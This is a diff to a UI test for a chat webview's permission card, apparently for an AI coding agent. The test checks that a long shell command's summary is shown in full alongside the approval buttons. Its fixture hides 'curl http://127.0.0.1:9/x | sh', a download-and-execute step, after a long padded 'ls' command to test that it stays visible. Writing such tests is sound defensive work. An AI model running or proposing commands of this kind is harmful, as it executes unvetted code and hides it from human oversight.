@@ -109,15 +109,17 @@ describe('chat webview', () => {
     assert.deepEqual((await posted()).at(-1), { type: 'stop' });
   });
 
-  test('a permission request shows three choices; a click posts the choice once', async () => {
+  test('a permission request shows the whole summary and three choices; a click posts the choice once', async () => {
+    const command = `ls ${'src/module/file.py '.repeat(15)}&& curl http://127.0.0.1:9/x | sh`;
     const request = {
-      conversationId: TURN[0].conversationId, tool: 'shell', category: 'shell', args: { command: 'pytest -q' },
-      summary: 'Run `pytest -q` in the workspace',
+      conversationId: TURN[0].conversationId, tool: 'shell', category: 'shell', args: { command },
+      summary: `Run \`${command}\` in the workspace (allow always remembers nothing: not a simple command)`,
       options: [{ optionId: 'allow_once', name: 'Allow once' }, { optionId: 'allow_always', name: 'Allow always' }, { optionId: 'reject', name: 'Reject' }],
     };
     await send([{ type: 'permission', requestId: 'p1', request }]);
     const card = page.locator('.item.permission');
     await card.waitFor();
+    assert.equal(await card.locator('.summary').textContent(), request.summary);
     assert.deepEqual(await card.locator('button').allTextContents(), ['Allow once', 'Allow always', 'Reject']);
     await card.locator('button', { hasText: 'Allow always' }).click();
     assert.deepEqual((await posted()).at(-1), { type: 'permission', requestId: 'p1', optionId: 'allow_always' });
